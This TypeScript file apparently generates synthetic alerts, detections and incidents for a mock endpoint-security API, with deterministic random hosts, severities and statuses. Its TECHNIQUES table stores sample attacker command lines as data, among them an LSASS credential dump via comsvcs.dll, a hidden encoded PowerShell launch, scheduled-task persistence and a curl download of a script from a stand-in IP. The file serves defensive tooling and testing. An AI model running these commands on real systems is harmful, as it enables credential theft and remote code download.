/** Generated alerts (Alerts API v2), legacy detections, incidents and their behaviors, all on generated hosts. */
import { hashString, itemSeed, Rng } from '../prng'
import { isoSeconds, sandboxCid, type FalconRecord } from './data-hosts'

export const ALERT_COUNT = 400
export const DETECT_COUNT = 200
export const INCIDENT_COUNT = 120
export const BEHAVIORS_PER_INCIDENT = 2

const TECHNIQUES = [
  { tactic: 'Execution', tactic_id: 'TA0002', technique: 'PowerShell', technique_id: 'T1059.001', filename: 'powershell.exe',
    cmdline: 'powershell.exe -nop -w hidden -enc SQBFAFgA' },
  { tactic: 'Credential Access', tactic_id: 'TA0006', technique: 'OS Credential Dumping', technique_id: 'T1003', filename: 'rundll32.exe',
    cmdline: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 624 lsass.dmp full' },
  { tactic: 'Persistence', tactic_id: 'TA0003', technique: 'Scheduled Task', technique_id: 'T1053.005', filename: 'schtasks.exe',
    cmdline: 'schtasks /create /tn Updater /tr C:\\Users\\Public\\upd.exe /sc minute' },
  { tactic: 'Defense Evasion', tactic_id: 'TA0005', technique: 'Masquerading', technique_id: 'T1036', filename: 'svch0st.exe',
    cmdline: 'C:\\ProgramData\\svch0st.exe -k netsvcs' },
  { tactic: 'Command and Control', tactic_id: 'TA0011', technique: 'Ingress Tool Transfer', technique_id: 'T1105', filename: 'curl',
    cmdline: 'curl -s http://198.51.100.7/x.sh -o /tmp/x.sh' }
] as const
const SEVERITIES = [
  { severity: 10, severity_name: 'Informational' }, { severity: 30, severity_name: 'Low' }, { severity: 50, severity_name: 'Medium' },
  { severity: 70, severity_name: 'High' }, { severity: 90, severity_name: 'Critical' }
] as const
const ALERT_STATUSES = ['new', 'new', 'in_progress', 'closed', 'reopened']
const DETECT_STATUSES = ['new', 'in_progress', 'true_positive', 'false_positive', 'ignored', 'closed']
const USERS = ['alice', 'bob', 'svc_backup', 'SYSTEM', 'carol']

interface HostRef {
  device_id: string
  hostname: string
  platform_name: string
}

function hostRefs(hosts: readonly FalconRecord[]): HostRef[] {
  return hosts.map((h) => ({ device_id: String(h['device_id']), hostname: String(h['hostname']), platform_name: String(h['platform_name']) }))
}

export function generateAlerts(seed: number, startedAtSec: number, hosts: readonly FalconRecord[]): FalconRecord[] {
  const cid = sandboxCid(seed)
  const refs = hostRefs(hosts)
  const stream = hashString('falcon-alerts')
  return Array.from({ length: ALERT_COUNT }, (_, i) => {
    const rng = new Rng(itemSeed(seed, stream, i))
    const host = rng.pick(refs)
    const t = rng.pick(TECHNIQUES)
    const sev = rng.pick(SEVERITIES)
    // Spread over 30 days, newest first by index so the default created_timestamp|desc order is index order.
    const created = startedAtSec - 600 - i * 6_480 - rng.range(0, 600)
    const id = `ind:${host.device_id}:${1_000_000 + i}`
    return {
      composite_id: `${cid}:${id}`,
      id,
      aggregate_id: `aggind:${host.device_id}:${rng.hex(12)}`,
      cid,
      agent_id: host.device_id,
      created_timestamp: new Date(created * 1000).toISOString(),
      timestamp: new Date((created - rng.range(1, 120)) * 1000).toISOString(),
      updated_timestamp: new Date((created + rng.range(0, 3600)) * 1000).toISOString(),
      status: rng.pick(ALERT_STATUSES),
      ...sev,
      confidence: rng.range(50, 100),
      product: 'epp',
      type: 'ldt',
      platform: host.platform_name,
      pattern_id: 40_000 + rng.range(0, 999),
      tactic: t.tactic,
      tactic_id: t.tactic_id,
      technique: t.technique,
      technique_id: t.technique_id,
      display_name: `${t.technique} activity`,
      name: t.technique.replace(/\s+/g, ''),
      description: `A process on the host showed ${t.technique} behavior.`,
      filename: t.filename,
      cmdline: t.cmdline,
      user_name: rng.pick(USERS),
      show_in_ui: true,
      device: { device_id: host.device_id, hostname: host.hostname, platform_name: host.platform_name }
    }
  })
}

export function generateDetects(seed: number, startedAtSec: number, hosts: readonly FalconRecord[]): FalconRecord[] {
  const cid = sandboxCid(seed)
  const refs = hostRefs(hosts)
  const stream = hashString('falcon-detects')
  return Array.from({ length: DETECT_COUNT }, (_, i) => {
    const rng = new Rng(itemSeed(seed, stream, i))
    const host = rng.pick(refs)
    const t = rng.pick(TECHNIQUES)
    const sev = rng.pick(SEVERITIES)
    const first = startedAtSec - 40 * 86_400 - i * 9_000
    return {
      detection_id: `ldt:${host.device_id}:${2_000_000 + i}`,
      cid,
      created_timestamp: isoSeconds(first + 30),
      first_behavior: isoSeconds(first),
      last_behavior: isoSeconds(first + rng.range(0, 900)),
      status: rng.pick(DETECT_STATUSES),
      max_severity: sev.severity,
      max_severity_displayname: sev.severity_name,
      max_confidence: rng.range(50, 100),
      show_in_ui: true,
      device: { device_id: host.device_id, hostname: host.hostname, platform_name: host.platform_name },
      behaviors: [{ tactic: t.tactic, tactic_id: t.tactic_id, technique: t.technique, technique_id: t.technique_id,
        filename: t.filename, cmdline: t.cmdline, severity: sev.severity, user_name: rng.pick(USERS) }]
    }
  })
}

export interface IncidentData {
  incidents: FalconRecord[]
  behaviors: FalconRecord[]
}

export function generateIncidents(seed: number, startedAtSec: number, hosts: readonly FalconRecord[]): IncidentData {
  const cid = sandboxCid(seed)
  const refs = hostRefs(hosts)
  const stream = hashString('falcon-incidents')
  const incidents: FalconRecord[] = []
  const behaviors: FalconRecord[] = []
  for (let i = 0; i < INCIDENT_COUNT; i++) {
    const rng = new Rng(itemSeed(seed, stream, i))
    const host = rng.pick(refs)
    const start = startedAtSec - 3_600 - i * 20_000
    const end = start + rng.range(60, 7_200)
    const status = rng.pick([20, 25, 30, 40])
    const incidentId = `inc:${host.device_id}:${rng.hex(32)}`
    const techniques = [rng.pick(TECHNIQUES), rng.pick(TECHNIQUES)]
    for (let b = 0; b < BEHAVIORS_PER_INCIDENT; b++) {
      const t = techniques[b] ?? TECHNIQUES[0]
      behaviors.push({
        behavior_id: `ind:${host.device_id}:${3_000_000 + i * BEHAVIORS_PER_INCIDENT + b}`,
        cid, aid: host.device_id, incident_id: incidentId, incident_ids: [incidentId],
        timestamp: isoSeconds(start + b * 30), tactic: t.tactic, tactic_id: t.tactic_id,
        technique: t.technique, technique_id: t.technique_id, filename: t.filename, cmdline: t.cmdline,
        display_name: `${t.technique} activity`, user_name: rng.pick(USERS), pattern_disposition: 0
      })
    }
    incidents.push({
      incident_id: incidentId,
      incident_type: 1,
      cid,
      host_ids: [host.device_id],
      hosts: [{ device_id: host.device_id, hostname: host.hostname, platform_name: host.platform_name }],
      created: isoSeconds(start),
      start: isoSeconds(start),
      end: isoSeconds(end),
      modified_timestamp: isoSeconds(end),
      state: status === 40 ? 'closed' : 'open',
      status,
      name: `Incident on ${host.hostname} - ${isoSeconds(start)}`,
      description: `Objectives in this incident: ${techniques.map((t) => t.tactic).join(', ')}.`,
      tags: [],
      fine_score: rng.range(10, 100),
      tactics: [...new Set(techniques.map((t) => t.tactic))],
      techniques: [...new Set(techniques.map((t) => t.technique))],
      objectives: ['Follow Through'],
      users: [rng.pick(USERS)]
    })
  }
  return { incidents, behaviors }
}
